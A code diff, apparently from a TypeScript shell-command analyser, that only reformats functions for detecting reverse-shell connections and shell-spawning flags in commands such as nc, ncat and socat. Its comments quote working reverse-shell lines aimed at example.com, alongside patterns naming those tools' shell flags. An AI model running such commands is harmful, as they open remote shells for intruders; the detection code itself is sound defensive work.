@@ -26,7 +26,11 @@ function isBareShell(execution: Execution): boolean {
 
 /** A connection to elsewhere: `bash -i >& /dev/tcp/example.com/4444 0>&1`, `sh < /dev/tcp/…`. */
 function isConnection(execution: Execution): boolean {
-  return (execution.program === "" || CONNECTION.has(execution.program)) && !isLocal(execution) && reaches(execution)
+  return (
+    (execution.program === "" || CONNECTION.has(execution.program)) &&
+    !isLocal(execution) &&
+    reaches(execution)
+  )
 }
 
 /** `exec 3<>/dev/tcp/example.com/80`: a connection that stays open for all that follows. */
@@ -47,12 +51,16 @@ const STARTS = /^(-e|-c|--exec|--sh-exec|--lua-exec)$/
 
 /** `nc -e /bin/sh`, `ncat --sh-exec bash`, `socat TCP:host:port EXEC:sh`. */
 function startsShell({ program, arguments: { flags, operands } }: Execution): boolean {
-  if (program === "socat") return operands.some((word) => /^(exec|system|shell):/i.test(word) && runsShell(word))
+  if (program === "socat")
+    return operands.some((word) => /^(exec|system|shell):/i.test(word) && runsShell(word))
   return flags.some(({ name, value }) => STARTS.test(name) && runsShell(value ?? ""))
 }
 
 function runsShell(command: string): boolean {
-  const [first = "", ...rest] = command.replace(/^\w+:/, "").replace(/^["']/, "").split(/[\s,"']+/)
+  const [first = "", ...rest] = command
+    .replace(/^\w+:/, "")
+    .replace(/^["']/, "")
+    .split(/[\s,"']+/)
   const bare = rest.every((word) => !/^-\w*c/.test(word))
   return SHELL.test(programName(first)) && bare
 }
